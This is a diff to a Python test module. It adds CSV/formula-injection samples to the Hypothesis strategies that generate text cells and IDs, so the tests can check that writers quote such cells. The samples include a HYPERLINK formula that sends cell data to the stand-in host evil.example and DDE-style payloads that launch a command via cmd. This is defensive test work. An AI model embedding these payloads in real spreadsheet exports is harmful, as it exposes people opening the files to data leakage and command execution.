@@ -45,6 +45,19 @@ TRICKY_TEXTS = (
     "none",
 )
 
+#: Spreadsheet formulas (OWASP "CSV injection"), which writers prefix with a quote, and text
+#: that already begins with one (kept apart from TRICKY_TEXTS so seeded rows stay the same).
+FORMULA_TEXTS = (
+    '=HYPERLINK("http://evil.example/?d="&A2, "click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "-5",
+    "\tindented",
+    "'quoted already",
+    "''",
+)
+
 
 def frame_of(rows: list[Row], instrument: Instrument) -> pl.DataFrame:
     """Rows as an all-string frame with every exchange column."""
@@ -129,7 +142,7 @@ def _cell(column: Column) -> st.SearchStrategy[str | None]:
     elif column.kind == "text":
         assert column.max_length is not None
         value = st.text(_TEXT_ALPHABET, min_size=1, max_size=min(column.max_length, 60)) | (
-            st.sampled_from(TRICKY_TEXTS)
+            st.sampled_from(TRICKY_TEXTS + FORMULA_TEXTS)
         )
     else:
         value = st.sampled_from(column.allowed)
@@ -140,7 +153,7 @@ def _cell(column: Column) -> st.SearchStrategy[str | None]:
 # strips as it does from every non-text cell.
 _IDS = st.text(
     st.characters(blacklist_categories=("Cs", "Cc", "Zs", "Zl", "Zp")), min_size=1, max_size=20
-)
+) | st.sampled_from(["=1+2", "-3", "-2+3", "@A1", "+1", "'R1", "'"])
 
 
 @st.composite
